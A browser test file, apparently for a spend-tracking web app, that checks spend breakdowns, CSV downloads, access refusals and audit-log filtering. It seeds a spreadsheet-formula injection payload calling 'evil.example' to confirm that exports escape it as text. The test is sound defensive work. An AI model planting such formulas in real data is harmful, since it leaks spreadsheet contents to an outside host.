import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { migrateLatest, openDatabase } from "../../app/db/index.js";
import { AccessPolicy, EmbeddedAuthorizer, loadPolicyModel } from "../../authz/index.js";
import { createDirectoryServices } from "../../directory/index.js";
import { freePort } from "../support/ports.js";
import { seedRuns, seedSpendLedger } from "../support/spend-ledger.js";
import { SwitchboardProcess } from "../support/switchboard-process.js";
import { cspViolations, DESKTOP, findChromium, launchChromium, screenshot } from "./browser.js";

/**
 * The "Spend" page in a real browser against `switchboard serve` on its embedded database,
 * seeded with the spend fixture's ledger before it starts: a platform admin reads November by
 * team and by model, filters, and downloads the CSV (a model name that is a spreadsheet
 * formula arrives as text); a person in no team sees only their own spend and is told, in
 * words, when they ask for someone else's.
 */

const chromiumPath = findChromium();
const NOVEMBER = "from=2026-11-01&to=2026-11-30";
const FORMULA_MODEL = '=HYPERLINK("http://evil.example/?"&A1,"Open")';

describe.runIf(chromiumPath)("the spend page in Chromium", { timeout: 120_000 }, () => {
  const root = mkdtempSync(join(tmpdir(), "switchboard-spend-site-"));
  const env = {
    SWITCHBOARD_DATA_DIR: join(root, "data"),
    SWITCHBOARD_ADMINS: "ada@example.com",
    LOG_LEVEL: "warn",
  };
  let server: SwitchboardProcess;
  let base: string;
  let browser: Browser;
  let ada: Page;
  let bob: Page;
  const violations: string[] = [];

  async function signIn(email: string): Promise<Page> {
    const context: BrowserContext = await browser.newContext({ viewport: DESKTOP });
    cspViolations(context, violations);
    const tab = await context.newPage();
    await tab.goto(`${base}/sign-in`);
    await tab.getByLabel("Email").fill(email);
    await tab.getByRole("button", { name: "Sign in" }).click();
    await tab.waitForURL(`${base}/`);
    return tab;
  }

  const rows = (page: Page) =>
    page
      .locator("#spend-items tbody tr")
      .evaluateAll((trs) =>
        trs.map((tr) =>
          Array.from(tr.children, (cell) =>
            (cell as unknown as { innerText: string }).innerText.trim(),
          ),
        ),
      );

  beforeAll(async () => {
    const db = await openDatabase({ dataDir: env.SWITCHBOARD_DATA_DIR });
    await migrateLatest(db);
    const authorizer = await EmbeddedAuthorizer.open({
      knex: db.knex,
      modelDsl: loadPolicyModel(),
    });
    const access = new AccessPolicy(authorizer, 5_000);
    const services = createDirectoryServices({ knex: db.knex, authorizer, access });
    const ids = await seedSpendLedger({ knex: db.knex, authorizer, access, services });
    await seedRuns(db.knex, ids, { finishedOnly: true });
    await db.knex("audit_log").insert({
      occurred_at: "2026-11-20T08:00:00Z",
      actor: "user:rita@example.com",
      action: "budget.overrun",
      target_type: "team",
      target_id: FORMULA_MODEL,
    });
    await db.knex("ledger").insert({
      occurred_at: "2026-09-15T10:00:00Z",
      source: "proxy",
      user_id: ids.bob,
      model: FORMULA_MODEL,
      cost_usd: 0.5,
      dedupe_key: "formula-model",
    });
    // A runtime billed by its own meter: booked at the manifest's price, marked an estimate.
    await db.knex("ledger").insert({
      occurred_at: "2026-08-14T10:00:00Z",
      source: "runtime",
      user_id: ids.bob,
      runtime: "cursor",
      cost_usd: 0.5,
      metadata: { cost_estimate: true },
      dedupe_key: "cursor-run",
    });
    await authorizer.close();
    await db.close();
    const port = await freePort();
    base = `http://127.0.0.1:${port}`;
    server = new SwitchboardProcess(["serve"], { ...env, PORT: String(port) });
    await server.waitFor(`${base}/readyz`, 90_000);
    browser = await launchChromium(chromiumPath as string);
    ada = await signIn("ada@example.com");
    bob = await signIn("bob@example.com");
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await server?.kill();
    rmSync(root, { recursive: true, force: true });
  });

  it("shows a platform admin the month's spend by team, with a chart per day", async () => {
    await ada.getByRole("link", { name: "Spend" }).click();
    await ada.waitForURL(`${base}/spend`);
    await expect(ada.locator(".lede").innerText()).resolves.toContain("Everyone's spend");
    await ada.goto(`${base}/spend?group_by=team&${NOVEMBER}`);
    await expect(ada.locator("#spend-total").innerText()).resolves.toBe("$8.81");
    expect(await rows(ada)).toEqual([
      ["research", "$4.50", "51.1%", "3"],
      ["support", "$3.88", "44.0%", "3"],
      ["none", "$0.44", "5.0%", "1"],
    ]);
    await expect(ada.locator("#spend-per-day-caption").innerText()).resolves.toContain("$8.81");
    expect(await ada.locator(".chart-bar").count()).toBe(30);
    await screenshot(ada, "spend");
  });

  it("says which part of the spend is an estimate", async () => {
    await ada.goto(`${base}/spend?group_by=runtime&from=2026-08-01&to=2026-08-31`);
    await expect(ada.locator("#spend-estimated").innerText()).resolves.toBe("$0.50");
    expect(await rows(ada)).toEqual([["cursor", "$0.50 ($0.50 estimated)", "100.0%", "0"]]);
    await expect(ada.locator("main").innerText()).resolves.toContain(
      "booked at the rate their agent's manifest sets",
    );
    await ada.goto(`${base}/spend?group_by=team&${NOVEMBER}`);
    await expect(ada.locator("#spend-estimated").count()).resolves.toBe(0);
  });

  it("filters with the form, and follows a group into the next breakdown", async () => {
    await ada.selectOption("#spend-group", "model");
    await ada.fill("#spend-team", "support");
    await ada.getByRole("button", { name: "Show" }).click();
    await ada.waitForURL(/group_by=model/);
    expect(new URL(ada.url()).searchParams.get("team")).toBe("support");
    // r1's gpt-4o call came after its claude-sonnet report: the run counts under the first.
    expect(await rows(ada)).toEqual([
      ["claude-sonnet", "$3.25", "83.9%", "2"],
      ["gpt-4o", "$0.50", "12.9%", "0"],
      ["claude-haiku", "$0.13", "3.2%", "1"],
    ]);
    await ada.getByRole("link", { name: "claude-sonnet" }).click();
    await ada.waitForURL(/model=claude-sonnet/);
    expect(await rows(ada)).toEqual([
      ["tess@example.com", "$2.00", "61.5%", "1"],
      ["carol@example.com", "$1.25", "38.5%", "1"],
    ]);
  });

  it("downloads the same figures as CSV, a formula-looking name as text", async () => {
    const november = await ada.context().request.get(`${base}/spend.csv?group_by=team&${NOVEMBER}`);
    expect(november.status()).toBe(200);
    expect(november.headers()["content-type"]).toMatch(/^text\/csv/);
    expect(november.headers()["content-disposition"]).toBe(
      'attachment; filename="spend-team-2026-11-01-2026-11-30.csv"',
    );
    const lines = (await november.text()).split("\r\n");
    expect(lines.slice(0, 5)).toEqual([
      "team,cost_usd,runs,estimated_usd",
      "research,4.5,3,0",
      "support,3.875,3,0",
      "(none),0.4375,1,0",
      "total,8.8125,7,0",
    ]);
    const september = await ada
      .context()
      .request.get(`${base}/spend.csv?group_by=model&from=2026-09-01&to=2026-09-30`);
    expect((await september.text()).split("\r\n")[1]).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",0.5,0,0`,
    );
    await ada.goto(`${base}/spend?group_by=model&from=2026-09-01&to=2026-09-30`);
    expect((await rows(ada))[0]?.[0]).toBe(FORMULA_MODEL);
  });

  it("shows a person in no team only their own spend", async () => {
    await expect(bob.getByRole("link", { name: "Spend" }).isVisible()).resolves.toBe(true);
    await bob.goto(`${base}/spend?group_by=agent&${NOVEMBER}`);
    await expect(bob.locator(".lede").innerText()).resolves.toContain("Your own spend");
    await expect(bob.locator("#spend-total").innerText()).resolves.toBe("$1.25");
    expect(await rows(bob)).toEqual([
      ["invoices", "$0.75", "60.0%", "1"],
      ["none", "$0.38", "30.0%", "0"],
      ["triage", "$0.13", "10.0%", "1"],
    ]);
    // Nothing on the form offers other people's or a team's spend.
    expect(await bob.locator("#spend-user").count()).toBe(0);
    expect(await bob.locator("#spend-team").count()).toBe(0);
  });

  it("tells a person who asks for someone else's spend why not, on the page and in the CSV", async () => {
    const refused = await bob.goto(`${base}/spend?user=carol@example.com&${NOVEMBER}`);
    expect(refused?.status()).toBe(403);
    await expect(bob.getByRole("alert").innerText()).resolves.toMatch(/only your own spend/);
    expect(await bob.locator("#spend-total").count()).toBe(0);
    const csv = await bob.context().request.get(`${base}/spend.csv?user=carol@example.com`);
    expect(csv.status()).toBe(403);
    expect(await csv.text()).toMatch(/only your own spend/);
    const bad = await bob.goto(`${base}/spend?from=2026-11-31`);
    expect(bad?.status()).toBe(400);
    await expect(bob.getByRole("alert").innerText()).resolves.toMatch(
      /from must be a date as YYYY-MM-DD/,
    );
  });

  it("shows outcomes across agents on the admin page, and an agent's to those who may change it", async () => {
    await ada.goto(`${base}/admin?${NOVEMBER}`);
    await expect(ada.locator("#outcomes").innerText()).resolves.toBe("Outcomes, Nov 1 to Nov 30");
    const agents = await ada
      .locator("#outcomes-by-agent tbody tr")
      .evaluateAll((trs) =>
        trs.map((tr) =>
          Array.from(tr.children, (cell) => (cell as unknown as { innerText: string }).innerText),
        ),
      );
    expect(agents).toEqual([
      ["triage", "5", "50.0%", "25.0 s", "38.5 s", "$2.06", "runtime_error 1, timeout 1"],
      ["invoices", "2", "50.0%", "10.0 s", "14.5 s", "$4.25", "runtime_error 1"],
      ["adas-bot", "1", "100.0%", "1.0 s", "1.0 s", "$0.06", "none"],
    ]);
    await screenshot(ada, "admin-outcomes");
    await ada.goto(`${base}/agents/triage?${NOVEMBER}`);
    await expect(ada.locator(".outcomes .stats").innerText()).resolves.toMatch(/Runs\s+5/);
    expect(await ada.locator("#outcomes-by-agent").count()).toBe(0);
    // Bob may run triage (everyone may view it) but not change it: no outcomes for him.
    await bob.goto(`${base}/agents/triage?${NOVEMBER}`);
    await expect(bob.locator("h1").innerText()).resolves.toBe("triage");
    expect(await bob.locator(".outcomes").count()).toBe(0);
  });

  it("filters the audit log on the admin page and downloads it as CSV", async () => {
    await ada.goto(`${base}/admin`);
    await ada.fill("#audit-action", "budget.*");
    await ada.fill("#audit-from", "2026-11-20");
    await ada.fill("#audit-to", "2026-11-20");
    await ada.getByRole("button", { name: "Filter" }).click();
    await ada.waitForURL(/audit_action=budget/);
    const audit = ada.locator("section", { has: ada.locator("#audit") });
    const entries = await audit.locator("tbody tr").allInnerTexts();
    expect(entries).toHaveLength(1);
    expect(entries[0]).toContain("budget.overrun");
    const href = await ada.locator("#audit-csv").getAttribute("href");
    expect(href).toBe("/admin/audit.csv?action=budget.*&from=2026-11-20&to=2026-11-20");
    const csv = await ada.context().request.get(`${base}${href}`);
    expect(csv.headers()["content-disposition"]).toBe('attachment; filename="audit-log.csv"');
    const lines = (await csv.text()).split("\r\n");
    expect(lines[0]).toBe("id,occurred_at,actor,action,target_type,target_id,request_id,details");
    expect(lines[1]).toMatch(
      /^\d+,2026-11-20T08:00:00.000Z,user:rita@example.com,budget.overrun,team,"'=HYPERLINK\(""http:/,
    );
    expect(lines).toHaveLength(3);
    // A filter the log cannot read says why, and lists nothing.
    await ada.goto(`${base}/admin?audit_from=2026-02-30#audit`);
    await expect(audit.getByRole("alert").innerText()).resolves.toMatch(/from must be a date/);
    // Not for anyone else: the same 404 as a page that does not exist.
    const refused = await bob.context().request.get(`${base}/admin/audit.csv`);
    expect(refused.status()).toBe(404);
  });

  it("ran no script and loaded nothing the site's policy blocks", () => {
    expect(violations).toEqual([]);
  });
});
